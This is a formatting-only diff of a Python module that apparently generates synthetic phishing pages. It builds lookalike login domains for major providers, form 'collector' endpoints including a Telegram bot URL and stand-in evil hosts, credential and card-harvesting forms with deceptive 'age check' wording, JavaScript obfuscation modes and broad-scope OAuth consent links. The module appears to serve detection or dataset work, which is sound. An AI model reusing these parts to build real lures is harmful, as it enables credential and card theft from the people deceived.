@@ -30,24 +30,58 @@ PROVIDERS = ("Google", "Facebook", "Apple", "Microsoft")
 
 # Hosts that imitate a provider: typo, homoglyph, subdomain-prefix and hosted-subdomain tricks.
 LOOKALIKE: dict[str, tuple[str, ...]] = {
-    "Google": ("accounts-google.com.verify-id.xyz", "accounts.goog1e-auth.com", "google-login.stream-access.top",
-               "accounts.google.com-signin.session-check.info", "gmail-secure.verify-session.click",
-               "accounts-google-com.web.app"),
-    "Facebook": ("faceb00k-login.com", "facebook-auth.watch-hd.live", "fb-verify-age.com",
-                 "m.facebook.com-login.site", "xn--fcebook-8va.com", "facebook.com.login-secure.cfd"),
-    "Apple": ("appleid.apple.com-secure-login.help", "apple-id-verify.support-icloud.top", "appleid-apple.sign-in.icu"),
-    "Microsoft": ("rnicrosoftonline.com", "login-microsoftonline.com.auth-session.top", "microsoft-365-login.web.app",
-                  "0utlook-live.com", "login.micros0ftonline.net"),
+    "Google": (
+        "accounts-google.com.verify-id.xyz",
+        "accounts.goog1e-auth.com",
+        "google-login.stream-access.top",
+        "accounts.google.com-signin.session-check.info",
+        "gmail-secure.verify-session.click",
+        "accounts-google-com.web.app",
+    ),
+    "Facebook": (
+        "faceb00k-login.com",
+        "facebook-auth.watch-hd.live",
+        "fb-verify-age.com",
+        "m.facebook.com-login.site",
+        "xn--fcebook-8va.com",
+        "facebook.com.login-secure.cfd",
+    ),
+    "Apple": (
+        "appleid.apple.com-secure-login.help",
+        "apple-id-verify.support-icloud.top",
+        "appleid-apple.sign-in.icu",
+    ),
+    "Microsoft": (
+        "rnicrosoftonline.com",
+        "login-microsoftonline.com.auth-session.top",
+        "microsoft-365-login.web.app",
+        "0utlook-live.com",
+        "login.micros0ftonline.net",
+    ),
     "Tumblr": ("tumblr-login.help", "www.tumblr.com.account-verify.support", "tumbIr.com"),
     "WordPress.com": ("wordpress-com.login-verify.xyz", "wordpress.com-security.check-session.site"),
 }
 
 COLLECTORS = (
-    "/gate.php", "/next.php", "/login.php", "/auth/post.php", "/save.php", "https://{evil}/gate.php",
-    "https://api.telegram.org/bot{bot}/sendMessage", "https://formspree.io/f/{fs}", "https://getform.io/f/{fs}",
-    "https://submit-form.com/{fs}", "https://script.google.com/macros/s/AKfycb{gs}/exec",
+    "/gate.php",
+    "/next.php",
+    "/login.php",
+    "/auth/post.php",
+    "/save.php",
+    "https://{evil}/gate.php",
+    "https://api.telegram.org/bot{bot}/sendMessage",
+    "https://formspree.io/f/{fs}",
+    "https://getform.io/f/{fs}",
+    "https://submit-form.com/{fs}",
+    "https://script.google.com/macros/s/AKfycb{gs}/exec",
 )
-EVIL_HOSTS = ("panel-stats.ru", "cdn-verify.top", "hd-player-auth.xyz", "log.secure-access.cyou", "data-sync.icu")
+EVIL_HOSTS = (
+    "panel-stats.ru",
+    "cdn-verify.top",
+    "hd-player-auth.xyz",
+    "log.secure-access.cyou",
+    "data-sync.icu",
+)
 
 _LABELS = {
     "en": ("Continue with {p}", "Sign in with {p}", "Log in with {p}"),
@@ -67,7 +101,9 @@ def _bot(rng: random.Random) -> str:
 def collector_action(rng: random.Random) -> str:
     """Where a lure form sends what it collects."""
     raw = rng.choice(COLLECTORS)
-    return raw.format(evil=rng.choice(EVIL_HOSTS), bot=_bot(rng), fs=rand_token(rng, 8).lower(), gs=rand_token(rng, 40))
+    return raw.format(
+        evil=rng.choice(EVIL_HOSTS), bot=_bot(rng), fs=rand_token(rng, 8).lower(), gs=rand_token(rng, 40)
+    )
 
 
 def lookalike_url(rng: random.Random, provider: str) -> str:
@@ -91,45 +127,73 @@ def sso_buttons(rng: random.Random, lang: str, providers: list[str], target: str
         else:
             href = f"https://{rng.choice(EVIL_HOSTS)}/{prov.lower()}/login?s={rand_token(rng, 10)}"
         label = esc(rng.choice(labels).format(p=prov))
-        out.append(f'<a class="sso-btn sso-{prov.lower()}" href="{href}"><span class="ico ico-{prov.lower()}"></span>{label}</a>')
+        out.append(
+            f'<a class="sso-btn sso-{prov.lower()}" href="{href}"><span class="ico ico-{prov.lower()}"></span>{label}</a>'
+        )
     return '<div class="sso-buttons">\n' + "\n".join(out) + "\n</div>"
 
 
 def credential_form(rng: random.Random, action: str, provider: str = "", lang: str = "en") -> str:
     """An email + password form posting to `action`."""
-    user = {"en": "Email or phone", "fr": "Adresse e-mail", "es": "Correo electrónico", "de": "E-Mail-Adresse",
-            "pt": "E-mail ou telefone", "id": "Email atau nomor HP", "it": "Indirizzo email"}.get(lang, "Email")
-    pw = {"en": "Password", "fr": "Mot de passe", "es": "Contraseña", "de": "Passwort", "pt": "Senha",
-          "id": "Kata sandi", "it": "Password"}.get(lang, "Password")
+    user = {
+        "en": "Email or phone",
+        "fr": "Adresse e-mail",
+        "es": "Correo electrónico",
+        "de": "E-Mail-Adresse",
+        "pt": "E-mail ou telefone",
+        "id": "Email atau nomor HP",
+        "it": "Indirizzo email",
+    }.get(lang, "Email")
+    pw = {
+        "en": "Password",
+        "fr": "Mot de passe",
+        "es": "Contraseña",
+        "de": "Passwort",
+        "pt": "Senha",
+        "id": "Kata sandi",
+        "it": "Password",
+    }.get(lang, "Password")
     brand = f'<div class="brand brand-{provider.lower()}">{esc(provider)}</div>' if provider else ""
     hidden = ""
     if "telegram" in action:
         hidden = f'<input type="hidden" name="chat_id" value="-100{rng.randint(10**9, 9 * 10**9)}">'
-    return (f'<form class="login-form" method="post" action="{esc(action)}">{brand}{hidden}\n'
-            f'<input type="email" name="{rng.choice(("email", "login", "u", "identifier"))}" placeholder="{esc(user)}" autocomplete="username">\n'
-            f'<input type="password" name="{rng.choice(("password", "pass", "p", "pwd"))}" placeholder="{esc(pw)}" autocomplete="current-password">\n'
-            f'<button type="submit">{esc(rng.choice(("Next", "Sign in", "Log In", "Continue", "Verify")))}</button>\n</form>')
+    return (
+        f'<form class="login-form" method="post" action="{esc(action)}">{brand}{hidden}\n'
+        f'<input type="email" name="{rng.choice(("email", "login", "u", "identifier"))}" placeholder="{esc(user)}" autocomplete="username">\n'
+        f'<input type="password" name="{rng.choice(("password", "pass", "p", "pwd"))}" placeholder="{esc(pw)}" autocomplete="current-password">\n'
+        f'<button type="submit">{esc(rng.choice(("Next", "Sign in", "Log In", "Continue", "Verify")))}</button>\n</form>'
+    )
 
 
 def card_form(rng: random.Random, action: str, lang: str = "en") -> str:
     """A 'free account' form that asks for card details."""
-    head = {"en": "Create your FREE account", "fr": "Créez votre compte GRATUIT", "es": "Crea tu cuenta GRATIS",
-            "de": "Kostenloses Konto erstellen", "pt": "Crie sua conta GRÁTIS", "id": "Buat akun GRATIS",
-            "it": "Crea il tuo account GRATUITO"}.get(lang, "Create your FREE account")
-    note = {"en": "We only verify your card to confirm you are over 18. You will not be charged.",
-            "fr": "Votre carte sert uniquement à vérifier votre âge. Aucun débit.",
-            "es": "Solo verificamos la tarjeta para confirmar tu edad. No se cobrará nada.",
-            "de": "Die Karte dient nur zur Altersprüfung. Es wird nichts abgebucht.",
-            "pt": "O cartão é usado só para verificar a idade. Nada será cobrado.",
-            "id": "Kartu hanya untuk verifikasi usia. Tidak ada biaya.",
-            "it": "La carta serve solo a verificare l'età. Nessun addebito."}.get(lang, "")
-    return (f'<form class="signup" method="post" action="{esc(action)}"><h3>{esc(head)}</h3>\n'
-            '<input type="email" name="email" placeholder="Email">\n<input type="password" name="password" placeholder="Password">\n'
-            '<input type="text" name="cc_name" placeholder="Name on card">\n'
-            '<input type="text" name="cc_number" inputmode="numeric" autocomplete="cc-number" placeholder="Card number">\n'
-            '<input type="text" name="cc_exp" autocomplete="cc-exp" placeholder="MM/YY">\n'
-            '<input type="text" name="cvv" autocomplete="cc-csc" maxlength="4" placeholder="CVV">\n'
-            f'<p class="small">{esc(note)}</p><button type="submit">Start watching</button>\n</form>')
+    head = {
+        "en": "Create your FREE account",
+        "fr": "Créez votre compte GRATUIT",
+        "es": "Crea tu cuenta GRATIS",
+        "de": "Kostenloses Konto erstellen",
+        "pt": "Crie sua conta GRÁTIS",
+        "id": "Buat akun GRATIS",
+        "it": "Crea il tuo account GRATUITO",
+    }.get(lang, "Create your FREE account")
+    note = {
+        "en": "We only verify your card to confirm you are over 18. You will not be charged.",
+        "fr": "Votre carte sert uniquement à vérifier votre âge. Aucun débit.",
+        "es": "Solo verificamos la tarjeta para confirmar tu edad. No se cobrará nada.",
+        "de": "Die Karte dient nur zur Altersprüfung. Es wird nichts abgebucht.",
+        "pt": "O cartão é usado só para verificar a idade. Nada será cobrado.",
+        "id": "Kartu hanya untuk verifikasi usia. Tidak ada biaya.",
+        "it": "La carta serve solo a verificare l'età. Nessun addebito.",
+    }.get(lang, "")
+    return (
+        f'<form class="signup" method="post" action="{esc(action)}"><h3>{esc(head)}</h3>\n'
+        '<input type="email" name="email" placeholder="Email">\n<input type="password" name="password" placeholder="Password">\n'
+        '<input type="text" name="cc_name" placeholder="Name on card">\n'
+        '<input type="text" name="cc_number" inputmode="numeric" autocomplete="cc-number" placeholder="Card number">\n'
+        '<input type="text" name="cc_exp" autocomplete="cc-exp" placeholder="MM/YY">\n'
+        '<input type="text" name="cvv" autocomplete="cc-csc" maxlength="4" placeholder="CVV">\n'
+        f'<p class="small">{esc(note)}</p><button type="submit">Start watching</button>\n</form>'
+    )
 
 
 # --- obfuscation ----------------------------------------------------------------------------------
@@ -169,8 +233,12 @@ def _uri_atob(markup: str, rng: random.Random) -> str:
 
 
 OBFUSCATIONS = {
-    "atob": _atob, "unescape": _unescape, "charcode": _charcode, "eval_atob": _eval_atob,
-    "hex_escape": _hex_escape, "uri_atob": _uri_atob,
+    "atob": _atob,
+    "unescape": _unescape,
+    "charcode": _charcode,
+    "eval_atob": _eval_atob,
+    "hex_escape": _hex_escape,
+    "uri_atob": _uri_atob,
 }
 
 
@@ -181,13 +249,20 @@ def obfuscate(markup: str, how: str, rng: random.Random) -> str:
 
 # --- OAuth ----------------------------------------------------------------------------------------
 BROAD_SCOPES = {
-    "Google": ("https://mail.google.com/", "https://www.googleapis.com/auth/contacts.readonly",
-               "https://www.googleapis.com/auth/drive", "https://www.googleapis.com/auth/gmail.send"),
+    "Google": (
+        "https://mail.google.com/",
+        "https://www.googleapis.com/auth/contacts.readonly",
+        "https://www.googleapis.com/auth/drive",
+        "https://www.googleapis.com/auth/gmail.send",
+    ),
     "Microsoft": ("offline_access", "Mail.Read", "Mail.Send", "Contacts.Read", "Files.ReadWrite.All"),
     "Facebook": ("email", "user_friends", "user_posts", "pages_manage_posts", "pages_read_engagement"),
 }
-NARROW_SCOPES = {"Google": ("openid", "email", "profile"), "Microsoft": ("openid", "profile", "email", "User.Read"),
-                 "Facebook": ("public_profile", "email")}
+NARROW_SCOPES = {
+    "Google": ("openid", "email", "profile"),
+    "Microsoft": ("openid", "profile", "email", "User.Read"),
+    "Facebook": ("public_profile", "email"),
+}
 
 
 def oauth_url(rng: random.Random, provider: str, redirect: str, broad: bool) -> str:
@@ -198,17 +273,38 @@ def oauth_url(rng: random.Random, provider: str, redirect: str, broad: bool) -> 
     if provider == "Google":
         if broad and "openid" not in scopes and rng.random() < 0.5:
             scopes = ["openid", "email", *scopes]
-        q = {"client_id": f"{rng.randint(10**11, 10**12)}-{rand_token(rng, 32).lower()}.apps.googleusercontent.com",
-             "redirect_uri": redirect, "response_type": "code", "scope": " ".join(scopes), "state": state}
+        q = {
+            "client_id": f"{rng.randint(10**11, 10**12)}-{rand_token(rng, 32).lower()}.apps.googleusercontent.com",
+            "redirect_uri": redirect,
+            "response_type": "code",
+            "scope": " ".join(scopes),
+            "state": state,
+        }
         if broad:
             q |= {"access_type": "offline", "prompt": "consent"}
         return esc("https://accounts.google.com/o/oauth2/v2/auth?" + urlencode(q, quote_via=quote))
     if provider == "Microsoft":
         cid = "-".join(rand_token(rng, n, "0123456789abcdef") for n in (8, 4, 4, 4, 12))
-        q = {"client_id": cid, "response_type": "code", "redirect_uri": redirect, "response_mode": "query",
-             "scope": " ".join(scopes), "state": state}
+        q = {
+            "client_id": cid,
+            "response_type": "code",
+            "redirect_uri": redirect,
+            "response_mode": "query",
+            "scope": " ".join(scopes),
+            "state": state,
+        }
         tenant = rng.choice(("common", "organizations", "consumers"))
-        return esc(f"https://login.microsoftonline.com/{tenant}/oauth2/v2.0/authorize?" + urlencode(q, quote_via=quote))
-    q = {"client_id": str(rng.randint(10**14, 10**15)), "redirect_uri": redirect, "state": state,
-         "scope": ",".join(scopes), "response_type": "code"}
-    return esc(f"https://www.facebook.com/v{rng.randint(17, 21)}.0/dialog/oauth?" + urlencode(q, quote_via=quote))
+        return esc(
+            f"https://login.microsoftonline.com/{tenant}/oauth2/v2.0/authorize?"
+            + urlencode(q, quote_via=quote)
+        )
+    q = {
+        "client_id": str(rng.randint(10**14, 10**15)),
+        "redirect_uri": redirect,
+        "state": state,
+        "scope": ",".join(scopes),
+        "response_type": "code",
+    }
+    return esc(
+        f"https://www.facebook.com/v{rng.randint(17, 21)}.0/dialog/oauth?" + urlencode(q, quote_via=quote)
+    )
